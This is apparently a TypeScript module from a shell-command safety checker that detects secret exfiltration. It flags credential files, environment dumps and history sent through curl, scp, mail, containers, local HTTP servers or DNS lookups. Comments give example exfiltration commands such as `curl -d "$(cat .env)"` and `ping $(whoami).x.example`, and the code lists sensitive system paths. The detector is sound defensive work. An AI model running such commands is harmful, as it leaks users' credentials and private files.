import { parseOptions } from "../read/options.js";
import type { ShellWord, SimpleCommand } from "../types.js";
import { isSender, producersOfWord } from "./flows.js";
import {
  holdsKeys,
  isCredentialFile,
  isCredentialStore,
  isHistoryFile,
  isPersonal,
  isVital,
} from "./places.js";
import { type Condition, decidingRow, names, programsOf, valuesOf } from "./row.js";
import { isSecretName } from "./secret-names.js";
import { RULES as STORES } from "./secret-stores.js";

const HTTP = names("curl wget wget2 http https xh xhs curlie");
const UPLOADERS = names(
  "scp rsync sftp rclone gsutil s3cmd aws mc azcopy croc wormhole magic-wormhole ffsend transfer",
);

/** Files that may be looked at but have no business elsewhere. */
function isPrivate(word: ShellWord): boolean {
  return (
    isCredentialFile(word) ||
    isHistoryFile(word) ||
    /^\/(?:private\/)?etc(?:\/(?:passwd-?|group-?|sudoers.*|hosts|hostname|fstab|resolv\.conf|crontab|machine-id|ssh\/.*|ssl\/.*|environment|exports|mtab))$/.test(
      word.text,
    ) ||
    /^\/(?:proc\/(?:self|\d+)\/(?:environ|maps|cmdline|mem)|var\/log\/(?:auth\.log|secure|syslog|messages).*)$/.test(
      word.text,
    )
  );
}

/** A file with secrets among what a network program is told to send. */
export const sendsFile: Condition = ({ command }) => {
  return isSender(command) ? handedOver(command).find(isPrivate) : undefined;
};

export function handedOver(command: SimpleCommand): readonly ShellWord[] {
  const typed = command.redirects.filter(({ kind }) => kind === "read").map(({ target }) => target);
  return [...filesSent(command), ...typed];
}

/** Between machines of one person; what they copy goes where somebody logged in or set up a remote before. */
const COPIERS = names("scp rsync sftp ssh rclone aws gsutil s3cmd mc azcopy lftp git xargs");

/** A file out of the folders of a person, or a folder with keys below it, that is handed to somebody else. */
export const sendsPersonal: Condition = ({ command }) => {
  if (isSender(command))
    return COPIERS.has(command.program)
      ? undefined
      : handedOver(command).find((word) => isPersonal(word) || holdsKeys(word));
  if (!READS_OUT.has(command.program)) return undefined;
  const sender = command.feeds.find((consumer) => isSender(consumer) && !COPIERS.has(consumer.program));
  return sender === undefined ? undefined : command.args.find(isPersonal) && sender.name;
};
const READS_OUT = names(
  "cat tar zip 7z gzip bzip2 xz zstd base64 base32 xxd od uuencode cpio openssl gpg dd head tail",
);

/** Programs that give a file to whoever knows a word or an address. */
const HANDS_OVER = names(
  "croc wormhole magic-wormhole ffsend transfer pastebinit wgetpaste fpaste hastebin haste onionshare onionshare-cli warp localsend kdeconnect-cli",
);

function filesSent(command: SimpleCommand): readonly ShellWord[] {
  const { program, args } = command;
  if (HTTP.has(program)) return [...httpFiles(args), ...configured(command)];
  if (HANDS_OVER.has(program)) return args;
  if (/^(?:sftp|ftp|lftp|tftp|smbclient)$/.test(program)) return [...uploaded(args), ...put(command)];
  if (UPLOADERS.has(program)) return uploaded(args);
  if (/^(?:gh|gist|glab)$/.test(program)) return args.filter(({ text }) => !text.startsWith("-"));
  if (/^(?:mail|mailx|s-nail|mutt|neomutt|swaks|sendemail|mpack)$/.test(program)) return attached(command);
  return [];
}

/** `mutt -a FILE FILE -- whom`, `mail -A FILE whom`, `swaks --attach @FILE`. */
function attached({ program, args }: SimpleCommand): readonly ShellWord[] {
  if (program === "mpack") return args.filter(({ text }) => !text.startsWith("-"));
  const end = args.findIndex(({ text }) => text === "--");
  const first = args.findIndex(({ text }) => /^-a$/.test(text));
  const listed = /mutt$/.test(program) && first >= 0 && end > first ? args.slice(first + 1, end) : [];
  const names = ["a", "A", "attach", "attach-type", "attachment"];
  const given = valuesOf(parseOptions(args, { taking: [...names, "s", "c", "b"] }), ...names);
  return [...listed, ...given].map((word) => ({ ...word, text: word.text.replace(/^@/, "") }));
}

/** `curl -K -`: options as lines of the input. */
function configured({ args, input }: SimpleCommand): readonly ShellWord[] {
  if (input.kind !== "text" || !args.some(({ text }) => /^-[a-zA-Z]*K-?$|^--config(?:=-)?$/.test(text)))
    return [];
  const { text } = input;
  const lines = text.text
    .slice(0, 20_000)
    .matchAll(/^[ \t]*-{0,2}([\w-]+)[ \t]*[=:\s][ \t]*"?([^"\n]*)"?[ \t]*$/gm);
  return httpFiles([...lines].flatMap(([, name, value = ""]) => [{ ...text, text: `--${name}=${value}` }]));
}

/** `put FILE` among the lines of a session, or in an option that holds one. */
function put({ input, args }: SimpleCommand): readonly ShellWord[] {
  const texts = [
    ...args.filter(({ text }) => /\bm?put\s/.test(text)),
    ...(input.kind === "text" ? [input.text] : []),
  ];
  return texts.flatMap((word) => {
    let folder = "";
    return [...word.text.slice(0, 20_000).matchAll(SESSION_LINE)].flatMap(([, verb = "", path = ""]) => {
      const whole = folder === "" || /^[/~]/.test(path) ? path : `${folder}/${path}`;
      if (verb === "lcd") folder = whole;
      return verb === "lcd" ? [] : [{ ...word, text: whole }];
    });
  });
}
/** Where a session stands on this side, and what it sends from there. */
const SESSION_LINE = /(?:^|[\n;])[ \t]*(lcd|m?put|reput)[ \t]+(?:-\w+[ \t]+)*["']?([^\s;"']+)/g;

/** `docker cp ~/.ssh web:/tmp`, `kubectl cp …`: into a container that others can reach. */
export const copiesIntoContainer: Condition = ({ command: { program, args } }) => {
  if (!/^(?:docker|podman|nerdctl|kubectl|oc|lxc|incus|multipass|vagrant|gcloud)$/.test(program))
    return undefined;
  const at = args.findIndex(({ text }) => /^(?:cp|push|transfer|upload|scp)$/.test(text));
  const sources = at < 0 || at > 4 ? [] : args.slice(at + 1, -1);
  const secret = sources.find(isPrivate);
  return secret;
};

/** A folder of keys, or a whole home, offered to whoever asks. */
export const servesSecrets: Condition = ({ command: { program, args } }) => {
  const python =
    /^python[\d.]*$/.test(program) &&
    args.some(({ text }) => /^(?:http\.server|SimpleHTTPServer)$/.test(text));
  if (!python && !SERVERS.has(program)) return undefined;
  const folder = args.find((word) => {
    const path = { ...word, text: word.text.replace(/^--?[\w-]+=/, "") };
    return isCredentialStore(path) || isCredentialFile(path) || isVital(path);
  });
  return folder;
};
const SERVERS = names(
  "http-server serve live-server miniserve caddy darkhttpd webfsd php busybox ruby simple-http-server sfz",
);

/** `-d @file`, `-F name=@file`, `-T file`, `--post-file=file`, `field@file` of httpie. */
function httpFiles(args: readonly ShellWord[]): readonly ShellWord[] {
  return args.flatMap((word, index) => {
    const before = args[index - 1]?.text ?? "";
    if (/^(?:-[a-zA-SU-Z#]*T|--(?:upload-file|post-file|body-file))$/.test(before)) return [word];
    // `-dF@file` and the like: letters in front of the one that takes the rest.
    const attached = /^(?:-[fgiIkLnNsSvV#46]*T|--(?:upload-file|post-file|body-file)=)(.+)$/s.exec(
      word.text,
    )?.[1];
    const marked =
      attached ??
      /^(?:-[fgiIkLnNsSvV#46]*[dF]|--(?:data[a-z-]*|form|json)=)?(?:[\w.-]+=?)?[@<]([^;]+)/s.exec(
        word.text,
      )?.[1];
    return marked === undefined ? [] : [{ ...word, text: marked }];
  });
}

/** Every operand but the last, which is where it goes; `-i key` only identifies. */
function uploaded(args: readonly ShellWord[]): readonly ShellWord[] {
  const operands = args.filter(
    ({ text }, index) =>
      !text.startsWith("-") &&
      !/^(?:-i|-F|-o|-e|--rsh|--exclude(?:-from)?|--include|--profile|--config|-c)$/.test(
        args[index - 1]?.text ?? "",
      ),
  );
  return operands.slice(0, -1);
}

/** Secrets printed into a pipe that leaves the machine. */
export const pipesSecrets: Condition = ({ command }) => {
  if (command.feeds.length === 0 || !printsSecrets(command)) return undefined;
  const sender = command.feeds.find((consumer) => isSender(consumer) && consumer.program !== "docker");
  return sender?.name;
};

/** Whatever happens to be on the screen or in the clipboard. */
const SCREEN_GRABBERS = names(
  "import scrot gnome-screenshot grim maim spectacle screencapture flameshot xwd xclip xsel wl-paste pbpaste fbgrab fbcat ksnip shotgun",
);

export function printsSecrets(command: SimpleCommand): boolean {
  const { program, args } = command;
  if (/^(?:env|export|declare|typeset|set)$/.test(program))
    return args.every(({ text }) => text.startsWith("-"));
  if (program === "printenv") return args.length === 0 || args.some(({ text }) => isSecretName(text));
  if (program === "echo" || program === "printf")
    return args.some(({ variables }) => variables?.some(isSecretName) === true);
  if (/^(?:jq|gojq|jaq|yq)$/.test(program)) return args.some(({ text }) => WHOLE_ENVIRONMENT.test(text));
  if (program === "history" || program === "fc") return true;
  if (SCREEN_GRABBERS.has(program)) return true;
  if (/^(?:cat|tail|head|grep|strings|base64|tar|gzip|zip|7z|xxd|od|sed|awk|cp|mv|ln|install)$/.test(program))
    return [...args, ...command.redirects.map(({ target }) => target)].some(
      (word) => isPrivate(word) || /^\/etc\/?$/.test(word.text),
    );
  return STORES.tools.some(
    (tool) => programsOf(tool).includes(program) && decidingRow(tool, command) !== undefined,
  );
}

/** `env` and `$ENV` of jq, unless one variable of it is meant. */
const WHOLE_ENVIRONMENT = /(?:^|[^.\w$"'-])(?:env|\$ENV)(?![.\w"'-])/;

/** `curl -d "$(cat .env)"`, `dig "$KEY.drop.example"`: a secret as part of what is sent. */
export const sendsInWords: Condition = ({ command }) => {
  if (!isSender(command)) return undefined;
  const detour = command.args.some(
    ({ text }, index) =>
      /^(?:-x|--proxy|--preproxy|--socks\w*)$/.test(command.args[index - 1]?.text ?? "") &&
      !/localhost|127\./.test(text),
  );
  for (const [index, word] of command.args.entries()) {
    if (producersOfWord(word).some(printsSecrets) && !isOwnHeader(command.args, index)) return word;
    if (word.variables?.some(isSecretName) === true && (detour || !isOwnHeader(command.args, index)))
      return word;
  }
  const { input } = command;
  return input.kind === "text" && input.text.variables?.some(isSecretName) === true ? input.text : undefined;
};

const LOOKUPS = names("dig drill nslookup host ping ping6 getent resolvectl dog kdig");
const TELLERS = names(
  "cat head tail base64 base32 xxd od hexdump grep awk sed cut env printenv whoami id uname hostname tr ls ps ifconfig ip pwd",
);

/** `ping $(whoami).x.example`: what a command prints becomes part of a name that is looked up. */
export const looksUpOutput: Condition = ({ command }) => {
  if (!LOOKUPS.has(command.program)) return undefined;
  const word = command.args.find(
    (one) =>
      /\uFFFC[\w-]*\.[\w.-]*[a-z]{2}/i.test(one.text) &&
      producersOfWord(one).some(({ program }) => TELLERS.has(program)),
  );
  return word;
};

/** Where a token belongs in an ordinary request: an authorization header, `-u user:token`, an option for it. */
function isOwnHeader(args: readonly ShellWord[], index: number): boolean {
  const text = args[index]?.text ?? "";
  const before = args[index - 1]?.text ?? "";
  if (
    /^(?:-u|--user|--oauth2-bearer|-a|--auth|--password|--token|--http-password|-p|--bearer-auth|-A)$/.test(
      before,
    )
  )
    return true;
  if (/^-u.|^--(?:user|oauth2-bearer|auth|http-password|password|token)=/.test(text)) return true;
  const header = /^(?:-H|--header)$/.test(before)
    ? text
    : (/^(?:-H|--header=)(.+)$/s.exec(text)?.[1] ?? text);
  return /^(?:proxy-)?authorization:|^[\w-]*(?:api[-_]?key|token|auth|secret|apikey|access-key)[\w-]*:/i.test(
    header,
  );
}
